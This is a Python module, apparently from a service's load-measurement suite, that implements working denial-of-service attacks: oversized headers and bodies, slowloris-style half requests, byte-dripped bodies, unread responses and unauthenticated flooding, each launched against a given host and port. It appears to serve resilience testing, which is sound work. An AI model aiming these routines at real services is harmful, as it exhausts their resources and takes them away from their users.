"""What one hostile address does to a service, as fast and as long as it may.

Each goes on until it is cancelled: a refusal or a closed connection only makes it begin
again. It never reads more than it must, nor waits for anybody. It runs in a process of
its own (`attacking`): what it costs may not make those wait whose time is taken.
"""

import asyncio
import sys
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from typing import TypeAlias

from deploy.measure.load import Address, open_stream

HOSTILE_ADDRESS = "127.0.0.66"
AT_ONCE = 4
MANY = 520
"""As many half-sent requests as once closed a key holder."""
_PIECE = b"x" * 65_536
_PIECES = 6_400
"""400 MB in all."""
BEGUN_AFTER = 1.0
"""Seconds after which an attack goes on at full strength."""

_GET = b"GET / HTTP/1.1\r\nHost: a\r\n"
_POST = (
    b"POST /v1/lookups HTTP/1.1\r\nHost: a\r\n"
    b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n"
)

Reader: TypeAlias = asyncio.StreamReader
Writer: TypeAlias = asyncio.StreamWriter
_GoOn = Callable[[Reader, Writer, bytes], Coroutine[None, None, None]]
Attack = Callable[[Address], Coroutine[None, None, None]]


class AttackStopped(Exception):
    """An attack was over before it was measured."""


async def send_large_headers(address: Address) -> None:
    """Send one header without end, over four connections."""
    await _at_once(AT_ONCE, address, _GET + b"X-Large: ", _send_much)


async def send_large_bodies(address: Address) -> None:
    """Send 400 MB to an address that takes bodies, without a login."""
    await _at_once(AT_ONCE, address, _POST % 419_430_400, _send_much)


async def send_half_requests(address: Address) -> None:
    """Hold 520 connections with half a request each."""
    await _at_once(MANY, address, _GET, _take_all)


async def drip_bodies(address: Address) -> None:
    """Hold as many with a body of which a byte comes each second."""
    await _at_once(MANY, address, _POST % 60_000, _drip)


async def take_no_answers(address: Address) -> None:
    """Ask for much, again and again on one connection, and read nothing."""
    asked = b"GET /v1/openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 8
    await _at_once(64, address, asked, _take_nothing)


async def ask_without_a_login(address: Address) -> None:
    """Ask as fast as is answered, over 64 connections."""
    await _at_once(64, address, _POST % 2 + b"{}", _ask_again)


async def do_nothing(_address: Address) -> None:
    """Attack nobody: what others wait anyhow on this machine."""
    await asyncio.Event().wait()


ATTACKS: dict[str, Attack] = {
    "nothing": do_nothing,
    "largeHeaders": send_large_headers,
    "largeBodies": send_large_bodies,
    "halfRequests": send_half_requests,
    "drippingBodies": drip_bodies,
    "answersNotTaken": take_no_answers,
    "withoutLogin": ask_without_a_login,
}


@asynccontextmanager
async def attacking(name: str, address: Address) -> AsyncIterator[None]:
    """Let an attack go on in another process."""
    program = (sys.executable, "-m", "deploy.measure.attacks", name)
    process = await asyncio.create_subprocess_exec(
        *program, address.host, str(address.port)
    )
    try:
        await asyncio.sleep(BEGUN_AFTER)
        if process.returncode is not None:
            raise AttackStopped(f"{name} ended with {process.returncode}")
        yield
    finally:
        with suppress(ProcessLookupError):
            process.kill()
        await process.wait()


async def _at_once(count: int, address: Address, head: bytes, go_on: _GoOn) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_begin_again(address, head, go_on))


async def _begin_again(address: Address, head: bytes, go_on: _GoOn) -> None:
    """Connect, send the head and go on until the other side is done; again."""
    while True:
        with suppress(OSError):
            reader, writer = await open_stream(address, HOSTILE_ADDRESS)
            try:
                writer.write(head)
                await go_on(reader, writer, head)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.05)


async def _send_much(reader: Reader, writer: Writer, _head: bytes) -> None:
    for _ in range(_PIECES):
        writer.write(_PIECE)
        await writer.drain()
    await reader.read()


async def _take_all(reader: Reader, _writer: Writer, _head: bytes) -> None:
    await reader.read()


async def _drip(reader: Reader, writer: Writer, _head: bytes) -> None:
    taking = asyncio.create_task(reader.read())
    try:
        while not taking.done():
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(1)
    finally:
        taking.cancel()


async def _take_nothing(_reader: Reader, _writer: Writer, _head: bytes) -> None:
    await asyncio.sleep(5)


async def _ask_again(reader: Reader, writer: Writer, head: bytes) -> None:
    while await reader.read(65_536):
        writer.write(head)


if __name__ == "__main__":
    attack, host, port = sys.argv[1:]
    asyncio.run(ATTACKS[attack](Address(host, int(port))))
